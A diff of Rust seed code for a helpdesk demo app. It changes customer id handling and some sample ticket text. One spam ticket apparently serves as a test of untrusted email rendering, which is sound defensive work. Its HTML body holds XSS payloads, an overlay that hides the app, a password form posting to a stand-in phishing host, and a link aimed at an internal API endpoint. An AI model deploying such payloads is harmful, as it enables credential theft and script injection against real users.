@@ -163,10 +163,17 @@ pub fn seed(conn: &Connection, now_secs: i64) -> rusqlite::Result<()> {
 fn insert_ticket(conn: &Connection, now_secs: i64, t: &TicketSeed) -> rusqlite::Result<()> {
     let (customer_name, customer_email) = t.customer;
     conn.execute(
-        "INSERT INTO customers (org_id, name, email, is_spam) VALUES (?1, ?2, ?3, ?4)",
-        params![t.org, customer_name, customer_email, t.status == "spam"],
+        "INSERT INTO customers (id, org_id, name, email, is_spam) VALUES (?1, ?2, ?3, ?4, ?5)",
+        params![
+            t.id,
+            t.org,
+            customer_name,
+            customer_email,
+            t.status == "spam"
+        ],
     )?;
-    let customer_id = conn.last_insert_rowid();
+    // Each demo ticket has a customer of its own, under the ticket's id.
+    let customer_id = t.id;
     let opened = now_secs - t.opened_hours_ago * 3600;
     let at = |m: &Msg| crate::clock::rfc3339(opened + m.at * 60);
     let first = t.messages.first();
@@ -370,7 +377,7 @@ fn tickets() -> Vec<TicketSeed> {
             cc: &[],
             opened_hours_ago: 9 * 24,
             messages: vec![
-                say(Who::Customer, 0, "Hi team,\n\nany plans for a dark mode? Our night shift works on the dashboard for hours.\n\nBest,\nAisha", ""),
+                say(Who::Customer, 0, "Hi team,\n\nany plans for a dark mode? Our night shift works on the dashboard for hours.\n\nBest,\nAisha\n\n-- \nAisha Khan\nOperations Lead, Woodgrove Bank\n+1 (555) 013-2290", ""),
                 say(Who::Agent(1), 90, "Hi Aisha,\n\nthanks for the suggestion! I've added your vote to the dark mode request; we'll post on the changelog when it ships.\n\nAlex", ""),
                 say(Who::Customer, 200, "Great, thank you!\n\nOn Thu, Alex Morgan <alex@acme.example> wrote:\n> thanks for the suggestion! I've added your vote to the dark mode request;\n> we'll post on the changelog when it ships.", ""),
                 event(201, "Alex Morgan changed the status to Closed: other"),
@@ -394,7 +401,7 @@ fn tickets() -> Vec<TicketSeed> {
                     "Your account will be suspended in 24 hours. Verify now.",
                     r##"<style>body{display:none} .tl-app{display:none}</style><div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background-color:#fff"><h2 style="color:#c00">Your account will be suspended in 24 hours</h2><p>Dear customer, <a href="javascript:alert('pwned')">verify your account now</a> or your data will be deleted.</p><img src="x" onerror="alert('pwned')"><script>alert('pwned')</script><form action="https://acme-billing-verify.example/collect"><input name="password" type="password"><button>Verify</button></form><a href="/api/initdesk/organizations/1/tickets/1/unassign/">Unsubscribe</a><iframe src="https://acme-billing-verify.example/frame"></iframe></div>"##,
                 ),
-                event(10, "Alex Morgan marked the ticket as spam"),
+                event(10, "Ticket marked as spam by Alex Morgan"),
             ],
         },
         TicketSeed {
